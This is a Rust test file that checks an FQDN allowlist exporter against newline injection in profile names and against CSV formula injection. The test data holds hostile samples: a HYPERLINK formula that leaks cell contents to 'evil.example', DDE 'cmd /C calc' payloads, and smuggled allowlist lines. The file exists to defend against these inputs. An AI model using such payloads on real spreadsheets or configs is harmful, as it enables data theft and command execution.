//! The FQDN allowlist (fqdn/allowlist.txt and .csv) of an IR whose free strings are hostile: a
//! line break in the profile name adds no entry to the text list, and the CSV, read back by
//! Python's csv module, has one row per FQDN flow with every formula neutralised.

use amlnet::backend::{Output, Target};
use amlnet::ir::Ir;

use crate::support::root;

/// An IR with FQDN flows: the shipped training profile, compiled.
fn training() -> Ir {
  amlnet::compile_path(&root().join("profiles/training-no-public-ip.toml")).expect("compiles")
}

fn allowlist(ir: &Ir) -> (String, String) {
  let mut out = Output::default();
  Target::FqdnList.render(ir, &amlnet::plan::Plan::new(ir), &mut out);
  let file = |path: &str| {
    out
      .artifacts
      .iter()
      .find(|a| a.path == path)
      .unwrap_or_else(|| panic!("no {path}"))
      .contents
      .clone()
  };
  (file("fqdn/allowlist.txt"), file("fqdn/allowlist.csv"))
}

/// The entries of the text list: its lines that are not comments.
fn entries(txt: &str) -> Vec<&str> {
  txt.lines().filter(|l| !l.starts_with('#')).collect()
}

#[test]
fn a_line_break_in_the_profile_name_adds_no_entry() {
  let benign = training();
  let mut hostile = benign.clone();
  for name in [
    "x\npypi.evil.example tcp:443",
    "x\r\npypi.evil.example tcp:443",
    "x\rpypi.evil.example tcp:443",
    "x\u{85}pypi.evil.example tcp:443",
    "x\u{2028}pypi.evil.example tcp:443",
  ] {
    hostile.profile = name.to_string();
    hostile.catalog_version = name.to_string();
    let (txt, _) = allowlist(&hostile);
    let (benign_txt, _) = allowlist(&benign);
    assert_eq!(entries(&txt), entries(&benign_txt), "{name:?}:\n{txt}");
    assert!(
      !entries(&txt).iter().any(|l| l.contains("evil")),
      "{name:?}:\n{txt}"
    );
    // Every line break is a `\n` ending a line; the rest is one comment line each.
    assert!(
      !txt.chars().any(|c| c != '\n' && amlnet::syntax::is_hazard(c)),
      "{name:?}: {txt:?}"
    );
  }
}

/// The CSV read by Python's csv module (as a spreadsheet import would split it): rows of cells.
fn python_csv(text: &str) -> Vec<Vec<String>> {
  let script = "import csv, io, json, sys\n\
                rows = list(csv.reader(io.StringIO(sys.stdin.read(), newline='')))\n\
                print(json.dumps(rows))";
  let rows = crate::support::python_json::<&str>(script, &[], text);
  serde_json::from_value(rows).expect("rows of strings")
}

#[test]
fn csv_cells_that_start_like_formulas_are_neutralised() {
  let mut ir = training();
  let formulas = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+HYPERLINK(\"http://evil.example\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u{FF1D}1+1",
  ];
  let mut fqdn_flows = 0;
  for (i, flow) in ir.flows.iter_mut().enumerate() {
    if flow.peer.fqdn().is_none() {
      continue;
    }
    fqdn_flows += 1;
    let f = formulas[i % formulas.len()];
    flow.purpose = format!("{f}\npurpose, with \"quotes\"");
    flow.requirements = vec![f.to_string(), "req-2".to_string()];
    flow.sources = vec![f.to_string(), "doc.md section 1".to_string()];
  }
  assert!(fqdn_flows >= 5, "the profile has FQDN flows");
  let (_, csv) = allowlist(&ir);
  let rows = python_csv(&csv);
  assert_eq!(
    rows.len(),
    fqdn_flows + 1,
    "one header and one row per flow:\n{csv}"
  );
  let formula_start = |cell: &str| {
    cell.trim_start_matches(' ').starts_with([
      '=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ])
  };
  for row in &rows {
    assert_eq!(row.len(), 8, "{row:?}");
    for cell in row {
      assert!(!formula_start(cell), "a spreadsheet runs {cell:?}");
    }
  }
  // Neutralised means prefixed with `'`, nothing else changed.
  for row in &rows[1..] {
    let purpose = &row[5];
    let original = purpose.strip_prefix('\'').expect("neutralised purpose");
    assert!(formulas
      .iter()
      .any(|f| original == format!("{f}\npurpose, with \"quotes\"")));
    let requirements = row[6].strip_prefix('\'').expect("neutralised requirements");
    assert!(requirements.ends_with(" req-2"), "{requirements:?}");
  }
}
